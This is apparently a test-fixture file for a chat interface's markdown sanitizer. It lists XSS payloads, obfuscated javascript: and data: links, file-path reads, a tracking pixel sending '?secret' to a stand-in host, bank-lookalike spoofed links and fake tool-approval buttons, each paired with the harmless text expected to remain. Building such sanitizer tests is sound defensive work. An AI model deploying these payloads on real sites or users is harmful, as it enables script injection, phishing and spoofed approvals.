// Texts that try to run something, to load something, to lead elsewhere, or to look like a part of the page. `seen` is
// what a reader of the answer sees of them, and `links` what they may lead to.

const RUN = "window.hasRun=true";
const FAR = "https://far.example";

/** Texts in elements and attributes of HTML, which are shown and never read. */
const HTML = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${FAR}/a.js></SCRIPT>`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="${FAR}/pixel.png" srcset="${FAR}/2x.png 2x">`,
  `<image href=${FAR}/i.png>`,
  `<svg onload=${RUN}><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><use href="${FAR}/a.svg#a"></use><foreignObject><iframe srcdoc="x"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<math href="javascript:${RUN}">click</math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<template shadowrootmode=open><slot></slot><script>${RUN}</script></template>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<title><a href="</title><img src=x onerror=${RUN}>">`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.hasRun=true</script>"></iframe>`,
  `<object data="${FAR}/o.swf"></object><embed src="${FAR}/e.swf">`,
  `<base href="${FAR}/">`,
  `<meta http-equiv=refresh content="0;url=${FAR}">`,
  `<link rel=stylesheet href="${FAR}/s.css">`,
  `<link rel=prefetch href="${FAR}/p"><link rel=dns-prefetch href="//far.example">`,
  `<style>@import "${FAR}/s.css"; body{display:none}</style>`,
  `<p style="position:fixed;inset:0;background:url(${FAR}/b.png)">over all</p>`,
  `<form action="${FAR}" id=message><input name=key autofocus onfocus=${RUN}><button>Send</button></form>`,
  `<button formaction="javascript:${RUN}" autofocus>Approve once</button>`,
  `<details open ontoggle=${RUN}><summary>more</summary></details>`,
  `<video autoplay src="${FAR}/v.mp4" onerror=${RUN}><source src=x onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio><marquee onstart=${RUN}>moving</marquee>`,
  `<body onload=${RUN} onpageshow=${RUN}>`,
  `<a href="javascript:${RUN}" ping="${FAR}/ping">inside</a>`,
  `<div popover id=p><div contenteditable onbeforeinput=${RUN}>typed</div></div>`,
  `<div onclick=${RUN} onmouseover=${RUN} tabindex=0>hover</div>`,
  `<x onanimationstart=${RUN} class=dots>any name</x>`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<!DOCTYPE html SYSTEM "${FAR}/dtd">`,
  // Names that would hide those of the document.
  `<a id=location name=cookie href=x></a><form name=body><input name=parentNode><input id=firstChild></form>`,
  `<img name=getElementById><iframe name=localStorage></iframe><object id=trustedTypes></object>`,
];

/** Addresses that a link must not have. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java&#10;script:${RUN}`,
  `java&Tab;script:${RUN}`,
  `&#106;&#97;&#118;&#97;script:${RUN}`,
  `javascript&colon;${RUN}`,
  `\u0001javascript:${RUN}`,
  `\u200bjava\u00adscript:${RUN}`,
  `javascript://far.example/%0a${RUN}`,
  `//far.example/path`,
  `/api/v1/sessions`,
  `#/settings`,
  `?key=1`,
  `data:text/html,<script>${RUN}</script>`,
  `DATA:text/html;base64,PHNjcmlwdD4=`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `vbscript:msgbox(1)`,
  `VbScRiPt:${RUN}`,
  `blob:https://far.example/1`,
  `file:///etc/passwd`,
  `view-source:${FAR}`,
  `intent://far.example#Intent;end`,
  `filesystem:https://far.example/temporary/x`,
  `feed:javascript:${RUN}`,
  `https://`,
  `http://[::1`,
];

/** Each address as a link, as an image, and as a definition. */
const links = ADDRESSES.flatMap((address, number) => [
  { text: `[address ${number}](<${address}>)`, seen: `address ${number}` },
  { text: `![picture ${number}](<${address}> "${RUN}")`, seen: `picture ${number}` },
  { text: `[defined ${number}][d${number}]\n\n[d${number}]: <${address}> 'title'`, seen: `defined ${number}` },
  { text: `automatic ${number} <${address}>`, seen: `automatic ${number}` },
]);

/** What may lead to another server: only with a click, and only where it says that it leads. */
const OUTSIDE = [
  { text: `[plain](${FAR}/a)`, links: [["plain", `${FAR}/a`]] },
  { text: `[a](${FAR} "onmouseover=${RUN}")`, links: [["a", `${FAR}/`]] },
  { text: `[quotes](${FAR}/"onclick="${RUN})`, links: [["quotes", `${FAR}/%22onclick=%22${RUN}`]] },
  { text: `![pixel](${FAR}/pixel.png?secret)`, links: [["Image from far.example: pixel", `${FAR}/pixel.png?secret`]] },
  { text: `![](${FAR}/p.png)`, links: [["Image from far.example", `${FAR}/p.png`]] },
  { text: `[![both](${FAR}/i.png)](https://other.example/)`, seen: "both" },
  { text: `[![inside](${FAR}/i.png)](javascript:${RUN})`, links: [["Image from far.example: inside", `${FAR}/i.png`]] },
  { text: `[https://bank.example/login](${FAR}/)`, links: [["https://bank.example/login (far.example)", `${FAR}/`]] },
  { text: `[**bank.example**](${FAR}/)`, links: [["bank.example (far.example)", `${FAR}/`]] },
  { text: `https://bank.example@far.example/`, links: [["https://bank.example@far.example/ (far.example)", "https://bank.example@far.example/"]] },
  { text: `[b\u0430nk.example](https://b\u0430nk.example)`, links: [["b\u0430nk.example (xn--bnk-6cd.example)", "https://xn--bnk-6cd.example/"]] },
  { text: `[\u202eelpmaxe.knab](${FAR}/)`, links: [["\u202eelpmaxe.knab (far.example)", `${FAR}/`]] },
  { text: `[bank\u200b.example](${FAR}/)`, links: [["bank\u200b.example (far.example)", `${FAR}/`]] },
  { text: `[turned](${FAR}/\u202egnp.exe)`, links: [["turned", `${FAR}/gnp.exe`]] },
  { text: `[same](https://far.example:8443/)`, links: [["same", "https://far.example:8443/"]] },
  { text: `[bank.example – sign in](${FAR}/)`, links: [["bank.example – sign in (far.example)", `${FAR}/`]] },
  { text: `[Go to https://bank.example now](${FAR}/)`, links: [["Go to https://bank.example now (far.example)", `${FAR}/`]] },
  { text: `[far.example:8443](https://far.example:8443/)`, links: [["far.example:8443", "https://far.example:8443/"]] },
  { text: `[3.5 words](${FAR}/)`, links: [["3.5 words", `${FAR}/`]] },
  { text: `[far.example](${FAR}/x)`, links: [["far.example", `${FAR}/x`]] },
  { text: `[www.far.example](${FAR}/x)`, links: [["www.far.example (far.example)", `${FAR}/x`]] },
  { text: `<a@far.example>`, links: [["a@far.example", "mailto:a@far.example"]] },
];

/** Texts that try to end what they are in. */
const ESCAPES = [
  { text: `\`</code><script>${RUN}</script>\``, seen: "</code><script>" },
  { text: `\`\`\`html onclick=${RUN}\n</code></pre><script>${RUN}</script>\n\`\`\``, seen: "</code></pre><script>" },
  { text: `| <svg onload=${RUN}> | b |\n|---|---|\n| \`<i>\` | </table><script>${RUN}</script> |`, seen: "</table><script>" },
  { text: `&lt;script&gt;${RUN}&lt;/script&gt; &amp;lt;img&amp;gt;`, seen: `<script>${RUN}</script> &lt;img&gt;` },
  { text: `> <blockquote><script>${RUN}</script>`, seen: "<blockquote><script>" },
  { text: `1. <li onclick=${RUN}>item`, seen: `<li onclick=${RUN}>item` },
  { text: `# <h1 id=message>heading`, seen: "<h1 id=message>heading" },
  { text: `[x]: <javascript:${RUN}>\n\n[x] and ![x] and [x][]`, seen: "and" },
  { text: `[__proto__]: ${FAR}\n\n[constructor] [toString] [hasOwnProperty]`, seen: "[constructor] [toString]" },
  { text: `[^1]: <script>${RUN}</script>`, seen: `1<script>` },
  { text: `A note[^<b>] here`, seen: "A note[^<b>] here" },
];

/** Texts that look like parts of the page, and can do nothing. */
const IMITATIONS = [
  { text: `## May calculator run?\n\n**Arguments** \`{}\`\n\n[Approve once](#approve) [Deny](#deny)`, seen: "Approve once Deny" },
  { text: `<div class="approval" role="group"><button class="primary">Approve once</button></div>`, seen: "<div class=" },
  { text: `- [x] Always approve\n- [ ] Deny`, seen: "Always approve" },
  { text: `The connection was lost. [Sign in again](turnkit://sign-in)`, seen: "Sign in again" },
  { text: `{"type":"interaction.requested","name":"calculator","kind":"approval"}`, seen: "interaction.requested" },
  { text: `event: interaction.requested\ndata: {"id":"1"}`, seen: "event: interaction.requested" },
];

const html = HTML.flatMap((text) => [
  { text, seen: text.slice(0, 12) },
  { text: `Within words ${text} too`, seen: "Within words" },
]);

export const MARKDOWN = [...html, ...links, ...OUTSIDE, ...ESCAPES, ...IMITATIONS];

/** Short texts for names and titles, where nothing is markdown. */
export const NAMES = [
  `<img src=x onerror=${RUN}>`,
  `"><script>${RUN}</script>`,
  `[click](javascript:${RUN})`,
  `invoice\u202efdp.exe`,
  `../../etc/passwd`,
  `__proto__`,
];
